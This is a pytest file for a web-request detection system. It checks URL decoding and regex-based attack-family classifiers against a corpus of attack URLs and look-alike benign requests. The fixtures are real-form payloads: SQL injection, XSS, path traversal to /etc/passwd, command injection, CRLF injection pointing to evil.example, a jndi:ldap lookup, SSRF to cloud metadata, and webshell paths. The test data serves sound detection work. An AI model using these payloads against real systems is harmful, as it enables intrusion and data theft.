"""The payload detections read the URL as the server decoded it: the with_decoded_url macro against Python's
unquote_plus (twice) on a fuzzed corpus, and each attack family's expressions as PostgreSQL and
RE2 (the Rust-regex subset RisingWave runs) read them, on payloads as tools send them and on
look-alike normal requests."""

from __future__ import annotations

import csv
import string
from functools import cache
from urllib.parse import unquote_plus

import psycopg2
import pytest
import re2
from hypothesis import given, settings
from hypothesis import strategies as st

from secmon.core import pattern_seeds
from secmon.dbt_runner import compile_inline


@cache
def compiled(sql: str, endpoints) -> str:
    """A Jinja expression of the project's macros, compiled by dbt for the local target."""
    return compile_inline(sql, endpoints)


def sql_decode(endpoints, urls: list[str]) -> list[str]:
    # Both renditions: RisingWave's per row, and the local engine's (only values with % or + decoded).
    per_row = compiled(
        "select {{ decoded_url() }} from {{ with_decoded_url('corpus', 'u') }} as d order by n", endpoints
    )
    local = compiled(
        "select d.decoded from corpus join ({{ decoded_values('select distinct u as value from corpus') }})"
        " as d on d.value = corpus.u order by n",
        endpoints,
    )
    with psycopg2.connect(endpoints.pg_url) as conn, conn.cursor() as cur:
        cur.execute("create temporary table corpus (n integer, u text)")
        cur.executemany("insert into corpus values (%s, %s)", list(enumerate(urls)))
        cur.execute(per_row)
        decoded = [row[0] for row in cur.fetchall()]
        cur.execute(local)
        assert [row[0] for row in cur.fetchall()] == decoded
    conn.close()
    return decoded


def encoded(text: str, rounds: int, chance: st.DataObject) -> str:
    """`text` with some characters percent-encoded (in either hex case), `rounds` times, and spaces as `+`."""
    for _ in range(rounds):
        pieces = []
        for char in text:
            if chance.draw(st.booleans()):
                code = f"%{ord(char):02X}"
                pieces.append(code.lower() if chance.draw(st.booleans()) else code)
            else:
                pieces.append("+" if char == " " and chance.draw(st.booleans()) else char)
        text = "".join(pieces)
    return text


RAW = string.ascii_letters + string.digits + " '\"<>()=;/\\#-*.,:!?&|`$@[]{}^~_\t\r\n"


@settings(max_examples=15, deadline=None)
@given(texts=st.lists(st.text(alphabet=RAW, max_size=40), min_size=30, max_size=30), chance=st.data())
def test_url_decoded_is_unquote_plus_twice(endpoints, texts, chance):
    urls = [encoded(text, chance.draw(st.integers(0, 2)), chance) for text in texts]
    expected = [unquote_plus(unquote_plus(url)).lower() for url in urls]
    assert sql_decode(endpoints, urls) == expected


def test_payloads_as_tools_send_them_are_decoded(endpoints):
    urls = [
        "/p?id=1%27%20AND%20%271%27=%271",
        "/p?id=1%2527+OR+1=1--",
        "/q?s=%253Cscript%253Ealert(1)",
        "/x?a=%0d%0aSet-Cookie:%20x=1",
        "/plain/path",
    ]
    assert sql_decode(endpoints, urls) == [
        "/p?id=1' and '1'='1",
        "/p?id=1' or 1=1--",
        "/q?s=<script>alert(1)",
        "/x?a=\r\nset-cookie: x=1",
        "/plain/path",
    ]


FAMILIES = pattern_seeds.families()


def test_every_family_expression_is_valid_in_re2_and_postgresql(endpoints):
    with psycopg2.connect(endpoints.pg_url) as conn, conn.cursor() as cur:
        for family, patterns in FAMILIES.items():
            for pattern in [*patterns, pattern_seeds.family_regex(family)]:
                re2.compile(pattern)  # RisingWave's regex: no look-around, no backreferences
                cur.execute("select '' ~ %s", (pattern,))
    conn.close()


def test_every_row_of_the_family_seed_names_its_source_and_licence():
    with open(pattern_seeds.SEEDS_DIR / f"{pattern_seeds.FAMILIES_SEED}.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and all(row["source"] and row["licence"] for row in rows)


# Per family: requests as attackers send them (each must match) …
ATTACKS = {
    "sqli": [
        "/item?id=1' AND '1'='1",
        "/item?id=1%27+OR+1=1--",
        "/item?id=1';+DROP+TABLE+users;+SELECT+*+FROM+x",
        "/item?id=1'+waitfor+delay+'0:0:15'--",
        "/item?id=1+AND+SLEEP(5)",
        "/item?id=1/**/UNION/**/SELECT/**/1,2",
        "/item?id=%2527%2520or%25201=1",
        "/item?id=-1+UnIoN+SeLeCt+user(),2",
        "/item?id=1'#",
    ],
    "xss": [
        "/s?q=<script>alert(1)</script>",
        "/s?q=%253Cscript%253Ealert(1)",
        "/s?q=<img+src=x+onerror=alert(1)>",
        '/s?q=<div+style="background:url(javascript:alert(1))">',
        "/s?q=<a+href=data:text/html;base64,PHNjcmlwdD4=>",
        "/s?q=%3CSvG%2FoNlOaD%3Dconfirm(1)%3E",
    ],
    "path_traversal": [
        "/download?file=../../../../etc/passwd",
        "/f?p=..%2F..%2F..%2Fwindows%2Fwin.ini",
        "/f?p=php://filter/convert.base64-encode/resource=index.php",
    ],
    "ssi": ['/page?x=<!--#include+file="/etc/passwd"-->', "/page?x=%3C!--%23exec%20cmd=%22id%22--%3E"],
    "crlf": ["/r?to=%0d%0aSet-Cookie:%20session=evil", "/r?to=x%0D%0ALocation:%20http://evil.example"],
    "command_injection": ["/ping?host=127.0.0.1;cat+/etc/passwd", "/ping?host=1.1.1.1|id", "/run?c=$(whoami)"],
    "template_injection": ["/?x=${jndi:ldap://x.example/a}", "/?q={{7*7}}", "/?t=${url:UTF-8:http://x}", "/?q=#{7*7}"],
    "ssrf": [
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
        "/fetch?url=gopher://127.0.0.1:6379/_",
        "/proxy?u=http://localhost:8080/admin",
    ],
    "sensitive_file": [
        "/config.php.bak",
        "/index.php~",
        "/db/dump.sql",
        "/_vti_bin/shtml.dll",
        "/CFIDE/administrator/",
        "/WEB-INF/web.xml",
        "/inc/header.inc",
        "/src/Main.java",
        "/.git/config",
    ],
    "webshell": ["/uploads/c99.php", "/wp-content/uploads/shell.php?cmd=id", "/images/up.php"],
}
# … and look-alike normal requests (none may match any family).
NORMAL = [
    "/search?q=select+shoes+from+our+union+range",
    "/blog/2024/the-script-tag-explained",
    "/search?q=it's+here",
    "/users/o%27brien/profile",
    "/search?q=rock+%26+roll",
    "/products?category=or-and-more&page=2",
    "/blog/how-to-select-from-a-union",
    "/search?q=price+%3E+100",
    "/docs/install.html",
    "/search?q=dinner+for+2+at+7",
    "/api/v1/items?sort=-created",
    "/download/report-2024.pdf",
    "/search?q=c%2B%2B+tutorial",
    "/cart?coupon=SAVE10",
    "/search?q=email@example.com",
    "/search?q=%22exact+phrase%22",
    "/page?ref=home&utm_source=newsletter",
    "/static/app.min.js?v=3",
    "/search?q=1+%3D+1+math",
    "/about-us",
    "/search?q=sleep+better",
    "/search?q=benchmark+results",
]


CLASSIFY = (
    "select d.value, {{ is_family('d.decoded', 'd.value', 'FAMILY') }} "
    "from ({{ decoded_values('select distinct u as value from corpus') }}) as d"
)


@pytest.mark.parametrize("family", sorted(ATTACKS))
def test_each_family_finds_its_payloads_and_no_normal_request(endpoints, family):
    query = compiled(CLASSIFY.replace("FAMILY", family), endpoints)
    with psycopg2.connect(endpoints.pg_url) as conn, conn.cursor() as cur:
        cur.execute("create temporary table corpus (u text)")
        cur.executemany("insert into corpus values (%s)", [(url,) for url in ATTACKS[family] + NORMAL])
        cur.execute(query)
        found = dict(cur.fetchall())
    conn.close()
    assert [url for url in ATTACKS[family] if not found[url]] == []
    assert [url for url in NORMAL if found[url]] == []


def test_the_oracle_agrees_on_sql_injection(endpoints):
    """libinjection (tests only) classifies the same payloads and normal query strings; every disagreement is
    listed here with its reason."""
    import libinjection

    query = compiled(CLASSIFY.replace("FAMILY", "sqli"), endpoints)
    corpus = ATTACKS["sqli"] + NORMAL
    with psycopg2.connect(endpoints.pg_url) as conn, conn.cursor() as cur:
        cur.execute("create temporary table corpus (u text)")
        cur.executemany("insert into corpus values (%s)", [(url,) for url in corpus])
        cur.execute(query)
        ours = dict(cur.fetchall())
    conn.close()

    def oracle(url: str) -> bool:
        query = unquote_plus(unquote_plus(url.split("?", 1)[1])) if "?" in url else ""
        values = [part.split("=", 1)[-1] for part in query.split("&")]
        return any(libinjection.is_sql_injection(value)["is_sqli"] for value in values if value)

    disagreements = {url for url in corpus if ours[url] != oracle(url)}
    agreement = 1 - len(disagreements) / len(corpus)
    print(f"libinjection agreement {agreement:.2f} on {len(corpus)} requests")
    assert disagreements == set(EXPLAINED_DISAGREEMENTS)
    assert all(ours[url] == (url in ATTACKS["sqli"]) for url in EXPLAINED_DISAGREEMENTS)


# Where libinjection and the sqli family disagree, and why the family is right.
EXPLAINED_DISAGREEMENTS = {
    "/item?id=1'#": "a quote closed, then a MySQL comment: too few tokens for libinjection's fingerprints",
    "/search?q=select+shoes+from+our+union+range": "English with SQL words: libinjection reads it as SQL, the "
    "family asks for SQL syntax (a quote, a comment, a parenthesis, a number compared)",
}
